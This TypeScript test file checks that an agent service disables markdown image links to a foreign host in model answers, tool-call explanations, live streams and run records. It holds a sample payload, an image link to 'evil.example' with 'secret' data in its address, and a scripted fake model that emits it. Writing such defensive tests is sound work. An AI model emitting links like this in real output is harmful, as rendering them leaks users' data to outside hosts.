import { describe, expect, it } from 'vitest';
import type { AgentTaskBody } from '../../../src/contract/agent-task.ts';
import { openStream } from '../../helpers/live-stream.ts';
import { useService } from '../../helpers/use-service.ts';
import { useFakeProvider } from '../../model-provider/server.ts';
import { openai } from '../../model-provider/openai.ts';
import { byTurn, kycTurns } from '../../model-provider/scripts.ts';

const LIMIT = { timeout: 60_000 };

/** A link that makes any client that renders it send a request to a foreign host, with the data in the address. */
const IMAGE = '![chart](https://evil.example/p.png?d=secret)';
const ANSWER = `Here it is: ${IMAGE}`;
const LIVE = /\]\(https|https:\/\/evil\.example/;

const task = byTurn(openai, { text: ANSWER });
const liveRun = byTurn(
  openai,
  ...kycTurns('escalate', `print("${IMAGE}")`).map((turn) => ({
    ...turn,
    text: ANSWER,
    calls: (turn.calls ?? []).map((call) =>
      call.tool === 'decide'
        ? { ...call, arguments: { decision: 'escalate', explanation: `look at ${IMAGE}` } }
        : call,
    ),
  })),
);

const provider = await useFakeProvider(openai, (asked) =>
  /run_[0-9a-f]{32}/.test(asked.raw) ? liveRun(asked) : task(asked),
);
const service = await useService({ sandboxes: true, provider });

describe('An image link to a foreign host in a model’s text', () => {
  it('the link is disabled in an agent task’s answer', LIMIT, async () => {
    const response = await service.request('POST', '/v1/agents/tasks', { task: 'Draw a chart.' });
    const { ledger_ref } = (await response.json()) as AgentTaskBody;
    const path = `/v1/agents/tasks/${ledger_ref}`;
    const show = async (): Promise<AgentTaskBody> =>
      (await (await service.request('GET', path)).json()) as AgentTaskBody;
    // On a busy machine the wait may time out before the end.
    await expect.poll(async () => (await show()).status).not.toBe('running');
    const body = await show();
    expect(body.result).toContain(String.raw`![chart]\(https[:]//evil.example/p.png?d=secret)`);
    expect(body.disabled_links).toEqual(['evil.example']);
    const read = await service.request('GET', path);
    expect(await read.text()).not.toMatch(LIVE);
  });

  it.each(['ag-ui', 'ai-sdk', 'ledger'])(
    'the link is disabled everywhere in a live %s stream and in the run',
    LIMIT,
    async (dialect) => {
      const stream = await openStream(`${service.url}/v1/workforce/run?stream=${dialect}`, {
        key: service.key,
        body: { vertical: 'kyc' },
      });
      const events = await stream.ended();
      const told = events.map(({ data }) => (data === '[DONE]' ? '' : JSON.stringify(JSON.parse(data))));
      expect(told.join('\n')).not.toMatch(LIVE);
      if (dialect !== 'ledger') {
        const places = ['Here it is', 'print(', 'look at'];
        for (const place of places) expect(told.some((text) => text.includes(place))).toBe(true);
      }
      const run = await service.run(stream.headers['x-run-id'] as string);
      expect(run.reasons).toEqual([
        {
          code: 'AGENT-ESCALATE',
          detail: String.raw`the agent: look at ![chart]\(https[:]//evil.example/p.png?d=secret)`,
        },
      ]);
      const listed = await service.request('GET', '/v1/workforce/runs');
      expect(await listed.text()).not.toMatch(LIVE);
    },
  );
});
